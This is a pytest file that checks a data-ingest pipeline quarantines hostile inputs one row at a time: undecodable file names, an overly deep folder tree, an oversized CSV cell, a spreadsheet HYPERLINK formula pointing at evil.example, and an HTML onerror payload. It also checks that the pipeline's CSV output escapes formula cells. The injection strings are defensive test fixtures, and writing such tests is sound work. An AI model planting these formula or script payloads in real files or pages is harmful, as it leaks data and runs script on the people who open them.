"""Ingest of hostile names and manifests, round two: each odd entry is one quarantine row, never an abort.

A file name that is not UTF-8, a tree 1,100 folders deep, a manifest cell over the CSV
field limit, a formula label and an HTML domain each used to abort the run, crash with a
traceback, or reach an output raw. Discovery-level checks run without Ray; two real
ingests (Ray Data, Parquet) check the whole path, accounting included.
"""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from helpers.files import png, write

from busgen.core.storage import write_tables
from busgen.data import schema as S
from busgen.data.dataset import read_table
from busgen.data.ingest import IngestConfig, ingest
from busgen.data.sources import discover

BAD_NAME = b"\xffscan\xfe.png"  # Latin-1 bytes from an old PACS export: not UTF-8
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HTML_DOMAIN = "<img src=x onerror=alert(1)>"
FORMULA_STARTS = ("=", "+", "-", "@")


@pytest.fixture(autouse=True)
def remove_deep_trees(tmp_path):
    """Delete the test's tree bottom-up without recursion: shutil.rmtree (pytest's cleanup) recurses per level."""
    yield
    folders, stack = [], [str(tmp_path)]
    while stack:
        folder = stack.pop()
        folders.append(folder)
        with os.scandir(folder) as entries:
            for entry in entries:
                if entry.is_dir(follow_symlinks=False):
                    stack.append(entry.path)
                else:
                    os.unlink(entry.path)
    for folder in reversed(folders[1:]):
        os.rmdir(folder)


def deep_tree(top: Path, levels: int) -> Path:
    """``top/d/d/.../d`` (``levels`` folders) with one PNG at the bottom; made iteratively (os.makedirs recurses)."""
    here = top
    top.mkdir(parents=True, exist_ok=True)
    for _ in range(levels):
        here = here / "d"
        os.mkdir(here)
    return write(here / "bottom.png", png(99))


def hostile_tree(root: Path) -> Path:
    write(root / "benign" / "a.png", png(0))
    write(root / "malignant" / "b.png", png(1))
    write(Path(os.fsdecode(os.fsencode(root / "benign") + b"/" + BAD_NAME)), png(2))
    deep_tree(root / "benign" / "nested", 1100)
    return root


def hostile_manifest(root: Path) -> Path:
    for i, name in enumerate(["a", "b", "c", "d"]):
        write(root / "benign" / f"{name}.png", png(10 + i))
    rows = [
        ["path", "label", "domain"],
        ["benign/a.png", "benign", "site-a"],
        ["benign/b.png", "benign", HTML_DOMAIN],
        ["benign/c.png", FORMULA, "site-a"],
        ["x" * 200_000, "benign", "site-a"],
        ["benign/d.png", "benign", "site-b"],
    ]
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    (root / "labels.csv").write_text(buf.getvalue())
    return root


def read_rows(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


# Discovery only (no Ray)


def test_a_non_utf8_file_name_is_one_quarantine_row_shown_with_escapes(tmp_path):
    found = discover(hostile_tree(tmp_path / "src"))
    assert sorted(t.source for t in found.tasks) == ["benign/a.png", "malignant/b.png"]
    (bad,) = [q for q in found.quarantine if "UTF-8" in q.reason]
    assert bad.source == "benign/\\xffscan\\xfe.png" and bad.source.encode("utf-8")


def test_a_tree_deeper_than_the_cap_is_one_row_not_a_recursion_error(tmp_path):
    from busgen.data.paths import MAX_DEPTH

    found = discover(hostile_tree(tmp_path / "src"))
    (deep,) = [q for q in found.quarantine if "deeper than" in q.reason]
    assert deep.source.startswith("benign/nested/d/") and len(Path(deep.source).parts) == MAX_DEPTH + 1
    assert f"deeper than {MAX_DEPTH} levels" in deep.reason and "move its files higher" in deep.reason


def test_manifest_cells_over_the_field_limit_and_unsafe_domains_fail_their_row_only(tmp_path):
    found = discover(hostile_manifest(tmp_path / "src"))
    assert sorted(t.source for t in found.tasks) == ["benign/a.png", "benign/d.png"]
    reasons = {q.source[:40]: q.reason for q in found.quarantine}
    assert "cannot be parsed" in reasons["labels.csv: row after line 4"]
    assert reasons["benign/b.png"].startswith("unsafe domain")
    assert reasons["benign/c.png"].startswith("unsafe label")
    assert found.n_entries == 5, "four listed files and one unreadable row"


def test_domains_are_validated_like_labels():
    with pytest.raises(ValueError, match="domain"):
        IngestConfig(domain=HTML_DOMAIN)
    with pytest.raises(ValueError, match="domain"):
        IngestConfig(domain="../site")
    assert IngestConfig(domain="site-a.v2").domain == "site-a.v2"


def test_every_csv_the_project_writes_escapes_formula_cells(tmp_path):
    from busgen.core.csvcells import safe_cell

    assert safe_cell(FORMULA) == "'" + FORMULA and safe_cell("-1") == "'-1" and safe_cell("@x") == "'@x"
    assert safe_cell("benign") == "benign" and safe_cell(-1.5) == -1.5
    parquet_fp, csv_fp = write_tables(str(tmp_path / "results"), [{"name": FORMULA, "auc": -0.5, "k": 3}])
    (row,) = read_rows(Path(csv_fp))
    assert row["name"] == "'" + FORMULA and float(row["auc"]) == -0.5
    assert pq.read_table(parquet_fp).column("name").to_pylist() == [FORMULA], "Parquet keeps the value as is"


# Real ingests (Ray Data, Parquet)


def test_ingest_of_a_hostile_tree_finishes_and_accounts_for_every_entry(ray_local, tmp_path):
    summary = ingest(hostile_tree(tmp_path / "src"), tmp_path / "out", progress=False)
    assert (summary.n_ingested, summary.n_quarantined) == (2, 2)
    assert summary.n_discovered == summary.n_ingested + summary.n_duplicates + summary.n_quarantined
    reasons = [r["reason"] for r in read_rows(tmp_path / "out" / S.QUARANTINE_CSV)]
    assert any("UTF-8" in r for r in reasons) and any("deeper than" in r for r in reasons)


def test_ingest_of_a_hostile_manifest_writes_no_formula_or_html_anywhere(ray_local, tmp_path):
    out = tmp_path / "out"
    summary = ingest(hostile_manifest(tmp_path / "src"), out, progress=False)
    assert (summary.n_ingested, summary.n_quarantined) == (2, 3)
    assert sorted(set(read_table(out, [S.DOMAIN]).column(S.DOMAIN).to_pylist())) == ["site-a", "site-b"]
    for name in (S.QUARANTINE_CSV, S.DUPLICATES_CSV):
        for row in read_rows(out / name):
            for value in row.values():
                assert not value.startswith(FORMULA_STARTS), (name, value)
    (formula,) = [r for r in read_rows(out / S.QUARANTINE_CSV) if r["source"] == "benign/c.png"]
    assert formula["label"] == "'" + FORMULA, "kept readable, but as text"
